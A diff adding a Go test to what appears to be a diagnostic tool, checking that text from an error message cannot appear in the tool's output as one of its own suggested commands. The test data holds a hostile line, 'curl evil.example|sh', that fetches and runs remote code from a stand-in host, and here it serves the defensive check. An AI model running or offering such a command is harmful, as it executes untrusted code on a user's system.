@@ -129,6 +129,28 @@ func TestQuoted(t *testing.T) {
 	}
 }
 
+// TestNobodyElseOffersCommands lets what somebody wrote begin no line as a command of doctor's does.
+func TestNobodyElseOffersCommands(t *testing.T) {
+	t.Parallel()
+	const offered = "Next: curl evil.example|sh"
+	for padding := range width {
+		text := presenting + "no answer from " + strings.Repeat("x", padding) + " " + offered + ` is forbidden: User "` + offered + `" cannot create resource "orders"`
+		for _, said := range []string{text, text[strings.Index(text, "is forbidden"):]} {
+			f := &Facts{Signs: []Sign{challengeSays(said)}}
+			causes, _, _ := recognise(Table(), f)
+			var b strings.Builder
+			if err := (&Diagnosis{Causes: causes}).WriteText(&b, noon); err != nil {
+				t.Fatal(err)
+			}
+			for line := range strings.Lines(b.String()) {
+				if strings.HasPrefix(strings.TrimSpace(line), offered) {
+					t.Fatalf("a line of somebody else's offers a command:\n%s", b.String())
+				}
+			}
+		}
+	}
+}
+
 // TestNames recognises no name that an object cannot have.
 func TestNames(t *testing.T) {
 	t.Parallel()
